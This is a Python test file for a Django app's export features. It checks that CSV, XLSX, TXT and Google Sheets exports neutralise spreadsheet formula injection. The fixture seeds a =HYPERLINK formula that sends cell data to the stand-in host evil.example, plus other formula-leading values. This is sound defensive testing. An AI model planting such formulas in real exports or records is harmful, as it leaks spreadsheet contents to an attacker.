"""Every export format neutralises cells a spreadsheet would run as formulas (OWASP CSV injection).

CSV, XLSX and TXT (a pipe-separated list, one import dialog away from a spreadsheet) get a leading
single quote; Google Sheets too (see integrations/tests/test_google_sheets.py for the client). The
WhatsApp list is exempt by construction: each line is a normalised +55 number and a wa.me link whose
text is URL-encoded, so no customer text ever starts a field.
"""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from customers.models import Customer
from integrations.testing.fake_server import FakeServer
from leads.models import Lead
from leads.tests.test_sheets import configure, fake_sheets, values_path
from orders.models import Order

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"clique")'


@pytest.fixture
def evil_rows(company_a):
    customer = Customer.objects.for_company(company_a).create(company=company_a, name=EVIL, phone="+5511987654321")
    Lead.objects.for_company(company_a).create(
        company=company_a, customer=customer, external_id="1", name="@SUM(1)", phone="+5511987654321"
    )
    Order.objects.for_company(company_a).create(
        company=company_a, customer=customer, source="whatsapp", status="placed", external_id="-1+2"
    )
    return customer


def cells(content: bytes, fmt: str) -> list[str]:
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
    text = content.decode("utf-8-sig")
    if fmt == "csv":
        return [value for row in csv.reader(io.StringIO(text)) for value in row]
    return [value for line in text.splitlines() for value in line.split(" | ")]


def assert_neutralised(values: list[str]) -> None:
    dangerous = [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not v.lstrip("+-").isdigit()]
    assert dangerous == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "txt"])
@pytest.mark.parametrize("url", ["/api/customers/export/", "/api/leads/export/", "/api/orders/export/"])
def test_api_exports_neutralise_formulas(api_client_a, evil_rows, url, fmt):
    response = api_client_a.get(f"{url}?type={fmt}")

    values = cells(response.content, fmt)
    assert response.status_code == 200
    assert_neutralised(values)
    assert any(v.startswith("'=HYPERLINK") or v in ("'@SUM(1)", "'-1+2") for v in values), values
    assert "+5511987654321" in values  # phones are numbers, left as they are


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "txt"])
@pytest.mark.parametrize("url", ["/admin/customers/customer/", "/admin/leads/lead/", "/admin/orders/order/"])
def test_admin_exports_neutralise_formulas(admin_client_a, evil_rows, url, fmt):
    response = admin_client_a.post(
        url, {"action": f"export_{fmt}", "select_across": "1", "index": "0", "_selected_action": ["0"]}
    )

    assert response.status_code == 200
    assert_neutralised(cells(response.content, fmt))


def test_whatsapp_list_starts_every_line_with_the_number(api_client_a, evil_rows):
    text = api_client_a.get("/api/customers/export/?type=whatsapp&message=Oi {nome}").content.decode()

    assert text.startswith("+5511987654321\thttps://wa.me/5511987654321?text=Oi%20%3DHYPERLINK")


def test_google_sheets_export_neutralises_formulas(company_a, admin_client_a, evil_rows, settings):
    lead = Lead.objects.for_company(company_a).get()
    with FakeServer() as server, translation.override("en"):
        fake_sheets(server, "leads")
        configure(company_a, server)
        settings.GOOGLE_SHEETS_BASE_URL = f"{server.url}/v4"

        admin_client_a.post("/admin/leads/lead/", {"action": "export_google_sheets", "_selected_action": [lead.pk]})

    (written,) = server.requests_to("PUT", values_path("'leads'!A1"))
    header, row = written.json["values"]
    assert row[0] == "'@SUM(1)"
    assert row[1] == "+5511987654321"
